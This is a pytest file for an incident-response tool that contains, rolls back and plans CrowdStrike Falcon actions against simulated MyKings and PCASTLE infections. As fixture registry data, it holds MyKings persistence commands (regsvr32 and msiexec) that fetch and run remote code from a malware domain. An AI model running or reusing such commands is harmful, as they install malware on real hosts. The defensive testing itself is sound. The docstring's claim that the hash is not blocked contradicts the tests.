"""CrowdStrike Falcon end to end, with rollback: a tenant (``acme``) whose adapters are ``crowdstrike``
(containment), ``crowdstrike_iocs`` (custom IOCs) and ``crowdstrike_rtr`` (Real Time Response), no lab. The
respond flow runs with no playbook named on a real (local) Prefect API; the Falcon cloud is faked at the
HTTP boundary (``_falcon_fake``), and its hosts show what each RTR command did. Then ``garrison rollback``
undoes what can be undone and says what cannot.

- MyKings (the demo alert): ``persistence-malware`` contains the device, puts a detect IOC on the C2 domain,
  leaves the scriptlet URL undone (Falcon IOCs take no URL: the analysts hear it) and deletes the Run-key
  values over RTR, capturing their type and data; the rollback writes them back with that data through
  ``garrison_registry_value``, deletes the IOC and lifts the containment.
- PCASTLE on one host (tests/fixtures/alerts/scenarios/pcastle-crowdstrike.json): ``fileless-miner`` puts
  an IOC on the download domain, kills the PowerShell once ``ps`` shows it, deletes the scheduled task
  (capturing its XML), quarantines the dropped file with the quarantine script and contains the device;
  the rollback restores the task and the file, deletes the IOC, lifts the containment, and reports the
  kill as not reversible. The miner's SHA-256 is not blocked: the playbook asks for no block_hash (strict
  xfail).
- ``garrison plan`` for the PCASTLE incident before the run shows, per target, the Falcon request each
  action would make, and changes nothing.
"""

from __future__ import annotations

import base64
import json
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import respx
from typer.testing import CliRunner

from flows.cli import app
from flows.demo import DEMO_HOST, mykings_alert
from flows.models import Alert
from flows.respond import RespondRequest, respond
from flows.settings import Settings, get_settings
from flows.store import Store
from tests.respond._falcon_fake import ADMIN_COMMAND, BASE, IOCS, Device, FalconCloud

SCENARIOS = Path(__file__).parents[1] / "fixtures" / "alerts" / "scenarios"
DEFAULT_FEED = Path(__file__).parents[2] / "flows" / "defaults" / "intel-feed.csv"
SECRETS = {
    "ACME_FALCON_CONTAIN_ID": "CANARY-acme-falcon-contain-id-1a2b",
    "ACME_FALCON_CONTAIN_SECRET": "CANARY-acme-falcon-contain-secret-3c4d",
    "ACME_FALCON_IOC_ID": "CANARY-acme-falcon-ioc-id-5e6f",
    "ACME_FALCON_IOC_SECRET": "CANARY-acme-falcon-ioc-secret-7a8b",
    "ACME_FALCON_RTR_ID": "CANARY-acme-falcon-rtr-id-9c0d",
    "ACME_FALCON_RTR_SECRET": "CANARY-acme-falcon-rtr-secret-1e2f",
}
# Falcon's own rates (10 a second, RTR 5) would make the test wait in real time; polls need not wait.
_FALCON = f"{{base_url: '{BASE}', verify_timeout: 5, poll_interval: 0.01, rate_per_second: 100, burst: 100"
TENANTS = f"""
tenants:
  - id: acme
    name: Acme Corp
    notify: [{{url: 'outbox://acme'}}]
    adapters:
      crowdstrike:
        settings: {_FALCON}}}
        secrets:
          crowdstrike_client_id: {{env: ACME_FALCON_CONTAIN_ID}}
          crowdstrike_client_secret: {{env: ACME_FALCON_CONTAIN_SECRET}}
      crowdstrike_iocs:
        settings: {_FALCON}, expiration_days: 30, severity: high}}
        secrets:
          crowdstrike_iocs_client_id: {{env: ACME_FALCON_IOC_ID}}
          crowdstrike_iocs_client_secret: {{env: ACME_FALCON_IOC_SECRET}}
      crowdstrike_rtr:
        settings: {_FALCON}}}
        secrets:
          crowdstrike_rtr_client_id: {{env: ACME_FALCON_RTR_ID}}
          crowdstrike_rtr_client_secret: {{env: ACME_FALCON_RTR_SECRET}}
"""

# -- MyKings: the demo host as Falcon sees it ----------------------------------------------------------------
MYKINGS_DEVICE = "ea2085de804f4dde7053af48828889cb"
RUN_KEY = r"HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Run"
STARTUPREG = r"HKLM\SOFTWARE\Microsoft\Shared Tools\MSConfig\startupreg"
SCRIPTLET = "regsvr32 /s /n /u /i:http://js.mykings.top:280/v.sct scrobj.dll"
MYKINGS_VALUES: dict[tuple[str, str], tuple[str, str]] = {
    (RUN_KEY, "start"): ("REG_SZ", SCRIPTLET),
    (RUN_KEY, "start1"): ("REG_SZ", "msiexec.exe /i http://js.mykings.top:280/helloworld.msi /q"),
    (STARTUPREG, "start"): ("REG_EXPAND_SZ", SCRIPTLET),
}
SECURITY_HEALTH = ("REG_EXPAND_SZ", r"%windir%\system32\SecurityHealthSystray.exe")
C2_DOMAIN = "js.mykings.top"
SCRIPTLET_URL = "http://js.mykings.top:280/v.sct"

# -- PCASTLE: the fixture's host ----------------------------------------------------------------------------
PCASTLE = json.loads((SCENARIOS / "pcastle-crowdstrike.json").read_text(encoding="utf-8"))
PCASTLE_HOST = PCASTLE["device"]["hostname"]
PCASTLE_DEVICE = PCASTLE["device"]["uid"]  # Falcon's agent id, as the sensor reports it
TASK = r"\Microsoft\Windows\Bluetooths"
PID = 5236
FILE = r"C:\Windows\Temp\mscheck.exe"
SHA256 = "09ccae5259ddba9c2e44b6068b9785b5c6f05b54d2ee5cf29030788af141e995"
STAGE_DOMAIN = "t.pcastle-miner.example"
TASK_XML = (
    '<?xml version="1.0" encoding="UTF-16"?><Task version="1.2" '
    'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task"><Triggers><TimeTrigger><Repetition>'
    "<Interval>PT1H</Interval></Repetition><StartBoundary>2026-11-14T07:55:00</StartBoundary></TimeTrigger>"
    "</Triggers><Principals><Principal><UserId>S-1-5-18</UserId></Principal></Principals><Settings><Hidden>"
    "true</Hidden></Settings><Actions><Exec><Command>powershell</Command><Arguments>"
    + PCASTLE["evidences"][0]["job"]["cmd_line"].removeprefix("powershell ")
    + "</Arguments></Exec></Actions></Task>"
)
# What intel says of the download host and the dropped file (the scenario's local feed).
PCASTLE_INTEL = (
    "type,value,verdict,reason,first_seen,source,last_seen\n"
    f"domain,{STAGE_DOMAIN},malicious,PCASTLE-style PowerShell stage host (constructed scenario),"
    "2026-10-30,garrison-scenario-feed,2026-11-14\n"
    f"sha256,{SHA256},malicious,Coin miner dropped by the PCASTLE-style stage (constructed scenario),"
    "2026-11-01,garrison-scenario-feed,2026-11-14\n"
)
_SCRIPT_ARG = re.compile(r"-(\w+) '((?:[^']|'')*)'")
DETECT_ONLY = "detect only: Falcon cannot prevent a domain, it alerts on it"
HASH_BLOCKED, HASH_UNBLOCKED = "file hash blocked (prevent)", "file hash unblocked"


@pytest.fixture
def acme(settings: Settings, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Settings]:
    """The Falcon-only tenant, its three API clients' secrets in the environment, intel as the local feeds
    say."""
    path = tmp_path / "tenants.yaml"
    path.write_text(TENANTS, encoding="utf-8")
    monkeypatch.setenv("GARRISON_TENANTS_FILE", str(path))
    for name, value in SECRETS.items():
        monkeypatch.setenv(name, value)
    feed = tmp_path / "pcastle-intel.csv"
    feed.write_text(PCASTLE_INTEL, encoding="utf-8")
    monkeypatch.setenv("GARRISON_INTEL_FEEDS", json.dumps([str(DEFAULT_FEED), str(feed)]))
    monkeypatch.delenv("GARRISON_ANALYST_NOTIFY", raising=False)
    get_settings.cache_clear()
    yield get_settings()
    get_settings.cache_clear()


@pytest.fixture
def falcon() -> Iterator[FalconCloud]:
    with respx.mock(assert_all_called=False) as mock:
        cloud = FalconCloud(mock)
        # Everything else (the Prefect API on loopback) is real.
        mock.route(host="127.0.0.1").pass_through()
        mock.route(host="localhost").pass_through()
        yield cloud


def _mykings(store: Store, falcon: FalconCloud) -> tuple[str, Device]:
    document = mykings_alert()
    document["metadata"]["tenant_uid"] = "acme"
    device = falcon.add_device(MYKINGS_DEVICE, DEMO_HOST)
    for (key, name), value in MYKINGS_VALUES.items():
        device.host.registry[(key.lower(), name.lower())] = value
    device.host.registry[(RUN_KEY.lower(), "securityhealth")] = SECURITY_HEALTH
    return store.record_alert(Alert.model_validate(document), document).incident_id, device


def _pcastle(store: Store, falcon: FalconCloud) -> tuple[str, Device]:
    device = falcon.add_device(PCASTLE_DEVICE, PCASTLE_HOST)
    device.host.tasks[TASK.lower()] = TASK_XML
    device.host.processes.update({PID: "powershell", 1184: "svchost"})  # svchost: the Task Scheduler
    device.host.files[FILE.lower()] = SHA256
    return store.record_alert(Alert.model_validate(PCASTLE), PCASTLE).incident_id, device


def _cli(*args: str) -> tuple[int, Any]:
    result = CliRunner().invoke(app, list(args))
    assert result.exception is None or isinstance(result.exception, SystemExit), result.output
    return result.exit_code, json.loads(result.stdout)


def _ledger(store: Store, incident_id: str) -> dict[tuple[str, str], Any]:
    return {(row.action, row.target): row for row in store.ledger.rows(incident_id) if row.reverses is None}


def _script_args(command: str) -> dict[str, str]:
    """The ``-Param 'value'`` arguments of a ``runscript`` command line, as PowerShell binds them."""
    line = command.split('-CommandLine="', 1)[1].removesuffix('"')
    return {name: value.replace("''", "'") for name, value in _SCRIPT_ARG.findall(line)}


def _one_session_per_action(falcon: FalconCloud, actions: int) -> None:
    """Each RTR action opened one session of its own on the device and deleted it afterwards."""
    assert len(falcon.sessions) == actions
    assert all(not s.open and s.commands for s in falcon.sessions)
    deleted = [call.request.url.params["session_id"] for call in falcon.close.calls]
    assert sorted(deleted) == sorted(s.session_id for s in falcon.sessions)


def _no_secret(*texts: str) -> None:
    for value in SECRETS.values():
        assert not any(value in text for text in texts), f"secret {value[:16]}… leaked"


# -- MyKings -----------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("prefect_harness")
def test_mykings_is_contained_through_falcon_and_rolled_back(
    acme: Settings, store: Store, falcon: FalconCloud
) -> None:
    incident_id, device = _mykings(store, falcon)

    result = respond(RespondRequest(incident_id=incident_id))  # no playbook named: the match rules choose

    incident = store.incident(incident_id)
    assert incident is not None
    assert result["playbook"] == "persistence-malware" and incident.playbook == "persistence-malware v1"
    assert incident.verdict == "malicious"
    ledger = _ledger(store, incident_id)
    values = {f"{DEMO_HOST}:{key}\\{name}": (key, name) for key, name in MYKINGS_VALUES}
    assert {key: row.status for key, row in ledger.items()} == {
        ("crowdstrike.isolate_host", DEMO_HOST): "succeeded",
        ("crowdstrike_iocs.block_domain", C2_DOMAIN): "succeeded",
        ("unbound.block_url", SCRIPTLET_URL): "skipped",
        **{("crowdstrike_rtr.delete_registry_value", target): "succeeded" for target in values},
    }
    # The device contained through Falcon, verified by its status.
    assert falcon.device_actions == [("contain", [MYKINGS_DEVICE])] and device.status == "contained"
    assert ledger[("crowdstrike.isolate_host", DEMO_HOST)].detail == "device contained"
    # The C2 domain: a Falcon IOC, which can only detect a domain, and the result says so.
    [ioc] = falcon.iocs
    assert (ioc["type"], ioc["value"], ioc["action"]) == ("domain", C2_DOMAIN, "detect")
    block = ledger[("crowdstrike_iocs.block_domain", C2_DOMAIN)]
    assert block.detail == f"domain blocked ({DETECT_ONLY})" and block.vendor_ref == ioc["id"]
    # The scriptlet URL: Falcon IOCs take no URL, so it is not done, and the analysts are told what to bind.
    url = ledger[("unbound.block_url", SCRIPTLET_URL)]
    assert url.detail == "Unbound: no adapter for block_url in tenant acme"
    assert result["status"] == incident.status == "awaiting_approval" and not incident.contained_at
    waiting = [t.message for t in incident.timeline if t.step == "act" and "no adapter for" in t.message]
    assert any("no adapter for block_url in this tenant" in message for message in waiting)
    escalations = [p.read_text(encoding="utf-8") for p in (acme.outbox_dir / "_analysts").glob("*")]
    assert any("no adapter for block_url" in text for text in escalations)
    # The Run-key values, read by the fixed script (type and exact data) and deleted with `reg delete`,
    # each in its own RTR session, deleted afterwards.
    _one_session_per_action(falcon, 3)
    for session in falcon.sessions:
        read, delete = (c["command_string"] for c in session.commands)
        args = _script_args(read)
        assert read.startswith('runscript -CloudFile="garrison_registry_value"') and args["Action"] == "read"
        assert delete == f'reg delete "{args["Key"]}" "{args["Name"]}"'
    for target, (key, name) in values.items():
        row = ledger[("crowdstrike_rtr.delete_registry_value", target)]
        kind, data = MYKINGS_VALUES[(key, name)]
        assert row.undo == {"hostname": DEMO_HOST, "key": key, "name": name, "type": kind, "data": data}
        assert (
            row.inverse == "crowdstrike_rtr.restore_registry_value" and row.detail == "registry value deleted"
        )
    assert device.host.registry == {(RUN_KEY.lower(), "securityhealth"): SECURITY_HEALTH}
    # Each adapter signed in with its own API client.
    assert set(falcon.client_ids) == {
        SECRETS["ACME_FALCON_CONTAIN_ID"],
        SECRETS["ACME_FALCON_IOC_ID"],
        SECRETS["ACME_FALCON_RTR_ID"],
    }
    sent = len(falcon.sessions)

    code, rolled = _cli("rollback", incident_id, "--yes", "--json", "--by", "analyst.kim")

    assert code == 0 and rolled["done"] is True
    # Each step's result, newest action first: the registry values, then the IOC and the containment.
    undone = {
        "crowdstrike_rtr.delete_registry_value": (
            "crowdstrike_rtr.restore_registry_value",
            "registry value restored",
        ),
        "crowdstrike_iocs.block_domain": ("crowdstrike_iocs.unblock_domain", "domain unblocked"),
        "crowdstrike.isolate_host": ("crowdstrike.release_host", "device normal"),
    }
    newest_first = sorted((row for row in ledger.values() if row.status == "succeeded"), key=lambda r: -r.id)
    assert [(i["action"], i["target"], i["inverse"], i["status"], i["detail"]) for i in rolled["items"]] == [
        (row.action, row.target, undone[row.action][0], "succeeded", undone[row.action][1])
        for row in newest_first
    ]
    assert [row.action.split(".")[0] for row in newest_first][:3] == ["crowdstrike_rtr"] * 3
    # The values written back by `garrison_registry_value` with the data captured when they were deleted.
    restores = [
        _script_args(command["command_string"])
        for session in falcon.sessions[sent:]  # the rollback's own sessions, one per restore
        for command in session.commands
        if command["command_string"].startswith('runscript -CloudFile="garrison_registry_value"')
        and "-Action 'restore'" in command["command_string"]
    ]
    assert len(falcon.sessions) == sent + 3 and all(not s.open for s in falcon.sessions)
    assert len(restores) == 3
    written = {
        (a["Key"], a["Name"]): (a["Type"], base64.b64decode(a["DataBase64"]).decode("utf-8"))
        for a in restores
    }
    assert written == MYKINGS_VALUES
    assert device.host.registry == {
        **{(key.lower(), name.lower()): value for (key, name), value in MYKINGS_VALUES.items()},
        (RUN_KEY.lower(), "securityhealth"): SECURITY_HEALTH,
    }
    assert falcon.iocs == [] and falcon.ioc_delete.call_count == 1
    assert falcon.device_actions[1:] == [("lift_containment", [MYKINGS_DEVICE])]
    assert device.status == "normal"
    after = store.incident(incident_id)
    assert after is not None
    timeline = [t.message for t in after.timeline if t.step == "rollback"]
    assert (timeline[0], timeline[-1]) == (
        "rollback of 5 action(s) requested by analyst.kim",
        "rollback finished: 5 of 5 action(s) undone",
    )
    rows = store.ledger.rows(incident_id)
    _no_secret(json.dumps(rolled), *(f"{r.detail} {r.inputs} {r.undo}" for r in rows))


# -- PCASTLE -----------------------------------------------------------------------------------------------


@pytest.mark.usefixtures("prefect_harness")
def test_pcastle_is_cleaned_through_falcon_and_rolled_back_where_it_can_be(
    acme: Settings, store: Store, falcon: FalconCloud
) -> None:
    incident_id, device = _pcastle(store, falcon)

    result = respond(RespondRequest(incident_id=incident_id))

    incident = store.incident(incident_id)
    assert incident is not None
    assert result["playbook"] == "fileless-miner" and incident.playbook == "fileless-miner v2"
    assert incident.verdict == "malicious"
    assert result["status"] == incident.status == "contained"
    ledger = _ledger(store, incident_id)
    kill = ("crowdstrike_rtr.kill_process", f"{PCASTLE_HOST}:pid:{PID} (powershell.exe)")
    task = ("crowdstrike_rtr.delete_scheduled_task", f"{PCASTLE_HOST}:task:{TASK}")
    quarantine = ("crowdstrike_rtr.quarantine_file", f"{PCASTLE_HOST}:{FILE}")
    assert {key: (row.status, row.detail) for key, row in ledger.items()} == {
        ("crowdstrike_iocs.block_domain", STAGE_DOMAIN): ("succeeded", f"domain blocked ({DETECT_ONLY})"),
        ("crowdstrike_iocs.block_hash", SHA256): ("succeeded", HASH_BLOCKED),
        kill: ("succeeded", f"process powershell.exe ({PID}) killed"),
        task: ("succeeded", "scheduled task deleted"),
        quarantine: ("succeeded", "file quarantined"),
        ("crowdstrike.isolate_host", PCASTLE_HOST): ("succeeded", "device contained"),
    }
    # The playbook's order: cut the downloads, then kill and clean, then contain (each step all at once).
    order = [row.action.split(".")[0] for row in sorted(ledger.values(), key=lambda r: r.id)]
    assert order == [*["crowdstrike_iocs"] * 2, *["crowdstrike_rtr"] * 3, "crowdstrike"]
    # The download host only detected (Falcon cannot prevent a domain); the miner's SHA-256, which intel
    # calls malicious, prevented everywhere in the tenant.
    assert sorted((i["type"], i["value"], i["action"]) for i in falcon.iocs) == [
        ("domain", STAGE_DOMAIN, "detect"),
        ("sha256", SHA256, "prevent"),
    ]
    # Over RTR, one session per action: ps shows pid 5236 still runs powershell before the kill; the
    # task is deleted by the fixed script, which prints its XML; the file goes to Garrison's quarantine.
    _one_session_per_action(falcon, 3)
    assert sorted(tuple(c["command_string"] for c in s.commands) for s in falcon.sessions) == sorted(
        [
            ("ps", f"kill {PID}"),
            (
                'runscript -CloudFile="garrison_scheduled_task" '
                f"-CommandLine=\"-Action 'delete' -Path '{TASK}' -XmlBase64 ''\"",
            ),
            (
                f'runscript -CloudFile="garrison_quarantine_file" -CommandLine="-Action \'quarantine\' '
                f"-Path '{FILE}' -Sha256 ''\"",
            ),
        ]
    )
    assert device.host.processes == {1184: "svchost"} and device.host.tasks == {}
    assert device.host.files == {} and device.host.vault == {FILE.lower(): SHA256}
    assert ledger[task].undo == {"hostname": PCASTLE_HOST, "name": TASK, "xml": TASK_XML}
    assert ledger[quarantine].undo == {"hostname": PCASTLE_HOST, "path": FILE, "sha256": SHA256}
    assert ledger[kill].inverse is None
    assert falcon.device_actions == [("contain", [PCASTLE_DEVICE])] and device.status == "contained"
    sent = len(falcon.sessions)

    code, rolled = _cli("rollback", incident_id, "--yes", "--json")

    assert code == 0 and rolled["done"] is True
    assert sorted((i["action"], i["status"], i["detail"]) for i in rolled["items"]) == sorted(
        [
            ("crowdstrike.isolate_host", "succeeded", "device normal"),
            ("crowdstrike_iocs.block_domain", "succeeded", "domain unblocked"),
            ("crowdstrike_iocs.block_hash", "succeeded", HASH_UNBLOCKED),
            ("crowdstrike_rtr.delete_scheduled_task", "succeeded", "scheduled task restored"),
            ("crowdstrike_rtr.quarantine_file", "succeeded", "file restored"),
            # What cannot be undone is said, not hidden: a killed process stays dead.
            (
                "crowdstrike_rtr.kill_process",
                "not_reversible",
                "crowdstrike_rtr.kill_process declares no inverse",
            ),
        ]
    )
    # The task registered again from the XML captured at deletion; the file moved back, its SHA-256 checked.
    restores = sorted(
        (command.split('"')[1], _script_args(command))
        for session in falcon.sessions[sent:]
        for command in (c["command_string"] for c in session.commands)
    )
    assert [(script, args["Action"]) for script, args in restores] == [
        ("garrison_quarantine_file", "restore"),
        ("garrison_scheduled_task", "restore"),
    ]
    assert restores[0][1] == {"Action": "restore", "Path": FILE, "Sha256": SHA256}
    assert restores[1][1]["Path"] == TASK
    assert base64.b64decode(restores[1][1]["XmlBase64"]).decode("utf-8") == TASK_XML
    assert device.host.tasks == {TASK.lower(): TASK_XML}
    assert device.host.files == {FILE.lower(): SHA256} and device.host.vault == {}
    assert device.host.processes == {1184: "svchost"}  # nothing brings a process back
    assert falcon.iocs == [] and device.status == "normal"
    assert falcon.device_actions[1:] == [("lift_containment", [PCASTLE_DEVICE])]
    assert len(falcon.sessions) == sent + 2 and all(not s.open for s in falcon.sessions)

    # Asked again, the analyst's table says what was undone and what cannot be, and runs nothing.
    shown = CliRunner().invoke(app, ["rollback", incident_id], env={"COLUMNS": "240"})
    assert shown.exit_code == 0, shown.output
    lines = shown.stdout.splitlines()
    [line] = [line for line in lines if "crowdstrike_rtr.kill_process " in line]
    assert "not_reversible" in line and "declares no inverse" in line
    assert sum("already rolled back" in line for line in lines) == 5
    assert lines[-1] == "Nothing to undo."
    assert len(falcon.sessions) == sent + 2 and len(falcon.device_actions) == 2


def test_triage_calls_the_pcastle_scenario_malicious_from_its_own_evidence() -> None:
    code, triaged = _cli(
        "triage", str(SCENARIOS / "pcastle-crowdstrike.json"), "--json", "--now", "2026-11-15T09:00:00+00:00"
    )

    # Without intel: the task's hidden encoded download cradle, the task as persistence, the sensor's word.
    assert code == 0 and triaged["verdict"] == "malicious"
    codes = {reason["code"] for reason in triaged["reasons"]}
    assert {"behaviour", "persistence", "threat_name"} <= codes
    persistence = next(r for r in triaged["reasons"] if r["code"] == "persistence")
    assert persistence["params"]["tasks"] == [TASK]
    cradle = next(r for r in triaged["reasons"] if r["params"].get("behaviour") == "download_cradle")
    assert cradle["params"]["decoded"] == 1  # the -enc payload was decoded to find the download


# -- the plan ----------------------------------------------------------------------------------------------


def _pcastle_plan(store: Store, falcon: FalconCloud) -> tuple[str, Device, dict[str, Any]]:
    incident_id, device = _pcastle(store, falcon)
    code, plan = _cli("plan", incident_id, "--json")  # before the run, no playbook named
    assert code == 0
    return incident_id, device, plan


def test_the_plan_shows_each_falcon_request_per_target_and_changes_nothing(
    acme: Settings, store: Store, falcon: FalconCloud
) -> None:
    incident_id, device, plan = _pcastle_plan(store, falcon)

    # Not triaged yet: the plan foresees the verdict (and intel) the run will find, so the playbook it takes.
    assert (plan["verdict"], plan["verdict_foreseen"]) == ("malicious", True)
    assert plan["playbook"] == {"id": "fileless-miner", "version": "2"}
    # Falcon IOCs take no URL: an error of the step, before anything runs.
    assert plan["errors"] == [
        {"step": "cut-downloads", "action": "block_url", "error": "no adapter for block_url in tenant acme"}
    ]
    calls = {(i["action"], i["target"]): i["call"] for i in plan["items"] if i["target"] != "-"}
    on = f"POST {ADMIN_COMMAND} on {PCASTLE_HOST}"
    assert calls == {
        ("crowdstrike_iocs.block_domain", STAGE_DOMAIN): (
            f"POST {IOCS} {{type: domain, value: {STAGE_DOMAIN}, action: detect}}"
        ),
        (
            "crowdstrike_iocs.block_hash",
            SHA256,
        ): f"POST {IOCS} {{type: sha256, value: {SHA256}, action: prevent}}",
        ("crowdstrike_rtr.kill_process", f"{PCASTLE_HOST}:pid:{PID} (powershell.exe)"): (
            f"{on}: kill {PID} (powershell.exe)"
        ),
        ("crowdstrike_rtr.delete_scheduled_task", f"{PCASTLE_HOST}:task:{TASK}"): (
            f"{on}: runscript -CloudFile=garrison_scheduled_task (delete {TASK})"
        ),
        ("crowdstrike_rtr.quarantine_file", f"{PCASTLE_HOST}:{FILE}"): (
            f"{on}: runscript -CloudFile=garrison_quarantine_file (quarantine {FILE})"
        ),
        ("crowdstrike.isolate_host", PCASTLE_HOST): (
            f"POST /devices/entities/devices-actions/v2?action_name=contain ({PCASTLE_HOST})"
        ),
    }
    assert all(i["verdict"] == "allowed" for i in plan["items"] if i["action"] != "block_url")
    # What Falcon says now, read without changing anything; the host's state is not read over RTR, since
    # even a read there runs a command on the customer's host.
    views = {i["action"].split(".")[1]: i["vendor"] for i in plan["items"] if i["target"] != "-"}
    unread = "(state not read: reading runs a script on the host)"
    assert views == {
        "block_domain": "would run crowdstrike_iocs.block_domain (domain is not blocked)",
        "block_hash": "would run crowdstrike_iocs.block_hash (file hash is not blocked)",
        "kill_process": f"would run crowdstrike_rtr.kill_process {unread}",
        "delete_scheduled_task": f"would run crowdstrike_rtr.delete_scheduled_task {unread}",
        "quarantine_file": f"would run crowdstrike_rtr.quarantine_file {unread}",
        "isolate_host": "would run crowdstrike.isolate_host (device status normal)",
    }
    # Nothing changed, nothing was sent that could: no RTR session or command, no IOC, no device action.
    assert store.ledger.rows(incident_id) == []
    assert not falcon.init.called and not falcon.execute.called
    assert not falcon.ioc_create.called and not falcon.ioc_delete.called and not falcon.action.called
    assert falcon.iocs == [] and device.status == "normal"
    assert device.host.tasks and PID in device.host.processes and device.host.files


def test_the_plan_blocks_the_dropped_miners_sha256_with_a_prevent_ioc(
    acme: Settings, store: Store, falcon: FalconCloud
) -> None:
    _, _, plan = _pcastle_plan(store, falcon)

    calls = {(i["action"], i["target"]): i["call"] for i in plan["items"]}
    assert calls[("crowdstrike_iocs.block_hash", SHA256)] == (
        f"POST {IOCS} {{type: sha256, value: {SHA256}, action: prevent}}"
    )
